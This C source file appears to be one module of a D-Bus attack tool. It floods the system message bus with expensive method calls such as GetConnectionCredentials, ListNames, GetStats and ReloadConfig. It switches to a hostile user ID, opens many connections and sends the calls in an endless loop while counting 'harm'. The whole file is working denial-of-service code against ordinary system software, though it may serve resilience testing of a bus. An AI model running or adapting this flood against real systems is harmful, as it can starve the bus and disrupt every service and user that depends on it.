/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>

#define CALLS 100
#define STATISTICS "org.freedesktop.DBus.Debug.Stats"

/* Methods of the bus, each with an expensive argument. */
static const struct {
    const char *member, *interface, *signature, *argument;
} methods[] = {
    {"GetConnectionCredentials", BUS, "s", BUS},
    {"GetConnectionUnixUser", BUS, "s", BUS},
    {"GetConnectionUnixProcessID", BUS, "s", ":1.0"},
    {"GetAdtAuditSessionData", BUS, "s", ":1.0"},
    {"ListQueuedOwners", BUS, "s", BUS},
    {"ListActivatableNames", BUS, "", NULL},
    {"ListNames", BUS, "", NULL},
    {"GetAll", "org.freedesktop.DBus.Properties", "s", BUS},
    {"Introspect", "org.freedesktop.DBus.Introspectable", "", NULL},
    {"GetStats", STATISTICS, "", NULL},
    {"GetAllMatchRules", STATISTICS, "", NULL},
    {"GetConnectionStats", STATISTICS, "s", BUS},
    {"NoSuchMethod", BUS, "s", BUS},
    {"ReloadConfig", BUS, "", NULL},
};

/* --count connections call the method --name of the bus without pause, and discard the replies. */
void driver_storm(void *argument)
{
    int n = attack_options.count, method = 0, known = (int)(sizeof(methods) / sizeof(*methods));
    struct connection *all = calloc((size_t)n, sizeof(*all));
    struct buffer out = {0}, body = {0};
    (void)argument;
    while (method < known && !same(methods[method].member, attack_options.name))
        method++;
    if (!all || method == known)
        die("no method %s", shown(attack_options.name));
    if (methods[method].argument)
        buffer_string(&body, methods[method].argument);
    for (int i = 0; i < CALLS; i++)
        put_message(
            &out,
            &(struct header){.type = CALL,
                             .path = BUS_PATH,
                             .interface = methods[method].interface,
                             .member = methods[method].member,
                             .destination = BUS,
                             .signature = *methods[method].signature ? methods[method].signature : NULL},
            methods[method].argument ? &body : NULL);
    hostile_set_uid();
    for (int i = 0; i < n; i++)
        attack_join(&all[i]);
    process_ready();
    for (int i = 0;; i = (i + 1) % n) {
        attack_pour(&all[i], &out);
        atomic_fetch_add(&shared->harm, CALLS);
    }
}
